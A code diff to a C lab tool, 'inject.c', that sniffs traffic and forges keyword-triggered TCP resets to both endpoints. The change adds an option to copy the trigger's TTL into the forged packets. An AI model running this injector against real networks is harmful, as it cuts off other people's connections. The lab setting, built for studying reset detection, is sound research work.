@@ -1,7 +1,7 @@
 /*
  * inject.c: an on-path TCP reset injector for the rstaudit lab.
  *
- *	inject -i IFACE -k KEYWORD [-c] [-p PORT] [-d DELAY_MS] [-t SECONDS]
+ *	inject -i IFACE -k KEYWORD [-cT] [-p PORT] [-d DELAY_MS] [-t SECONDS]
  *
  * Sniffs the packets arriving on IFACE with an AF_PACKET socket (it never
  * sits in the forwarding path: the routers keep forwarding everything).
@@ -11,7 +11,8 @@
  *  - to the sender (the client), claiming to be the receiver: a burst of
  *    three RST|ACK at seq = the trigger's ack, +1460, +4380, TTL/hop limit
  *    64, IPv4 ID copied from the trigger, DF clear, window copied from the
- *    trigger, no options;
+ *    trigger, no options (with -T, the TTL is the trigger's own as it
+ *    arrived, as injectors that copy it do: tests/locate);
  *  - to the receiver (the server), claiming to be the client, DELAY_MS
  *    later (default 300), so the server's genuine reply can still reach
  *    the client after the forged RST: the race an analyser can see.
@@ -59,6 +60,7 @@ struct seg {
 	uint32_t	 seq, ack;
 	uint16_t	 win;
 	uint16_t	 ipid;
+	uint8_t		 ttl;		/* as received; as sent, for a forged RST */
 	size_t		 paylen;
 };
 
@@ -72,6 +74,7 @@ static struct pending pending[MAX_PENDING];
 static int npending;
 static int raw4 = -1, raw6 = -1;
 static int client_only;
+static int copy_ttl;
 
 static void
 on_signal(int sig)
@@ -159,6 +162,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 			return -1;
 		len = get16(ip + 2);
 		s->ipid = get16(ip + 4);
+		s->ttl = ip[8];
 		memcpy(s->src, ip + 12, 4);
 		memcpy(s->dst, ip + 16, 4);
 		break;
@@ -169,6 +173,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 		s->family = AF_INET6;
 		iplen = 40;
 		len = 40 + get16(ip + 4);
+		s->ttl = ip[7];
 		memcpy(s->src, ip + 8, 16);
 		memcpy(s->dst, ip + 24, 16);
 		break;
@@ -213,7 +218,7 @@ rst_build(const struct seg *s, uint8_t *buf)
 		buf[0] = 0x45;
 		put16(buf + 2, iplen + 20);
 		put16(buf + 4, s->ipid);	/* copied; DF clear */
-		buf[8] = FORGED_TTL;
+		buf[8] = s->ttl;
 		buf[9] = IPPROTO_TCP;
 		memcpy(buf + 12, s->src, 4);
 		memcpy(buf + 16, s->dst, 4);
@@ -222,7 +227,7 @@ rst_build(const struct seg *s, uint8_t *buf)
 		buf[0] = 0x60;
 		put16(buf + 4, 20);
 		buf[6] = IPPROTO_TCP;
-		buf[7] = FORGED_TTL;
+		buf[7] = s->ttl;
 		memcpy(buf + 8, s->src, 16);
 		memcpy(buf + 24, s->dst, 16);
 	}
@@ -291,6 +296,7 @@ inject(const struct seg *t, double delay)
 	c.sport = t->dport;
 	c.dport = t->sport;
 	c.ack = t->seq + (uint32_t)t->paylen;
+	c.ttl = copy_ttl ? t->ttl : FORGED_TTL;
 	for (i = 0; i < BURST; i++) {
 		c.seq = t->ack + burst_offset[i];
 		rst_send(&c);
@@ -304,6 +310,7 @@ inject(const struct seg *t, double delay)
 	/* To the server, from the client, later. */
 	sv.seq = t->seq + (uint32_t)t->paylen;
 	sv.ack = t->ack;
+	sv.ttl = FORGED_TTL;
 	if (npending == MAX_PENDING) {
 		fprintf(stderr, "inject: too many pending resets; dropped\n");
 		return;
@@ -368,7 +375,7 @@ sniff_open(const char *ifname)
 static void
 usage(void)
 {
-	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-c] [-p PORT] "
+	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cT] [-p PORT] "
 	    "[-d DELAY_MS] [-t SECONDS]\n");
 	exit(2);
 }
@@ -384,9 +391,10 @@ main(int argc, char *argv[])
 	double delay = 0.3, deadline, seconds = 120;
 	int fd, ch;
 
-	while ((ch = getopt(argc, argv, "ci:k:p:d:t:")) != -1) {
+	while ((ch = getopt(argc, argv, "cTi:k:p:d:t:")) != -1) {
 		switch (ch) {
 		case 'c': client_only = 1; break;
+		case 'T': copy_ttl = 1; break;
 		case 'i': ifname = optarg; break;
 		case 'k': keyword = optarg; break;
 		case 'p': port = strtol(optarg, NULL, 10); break;
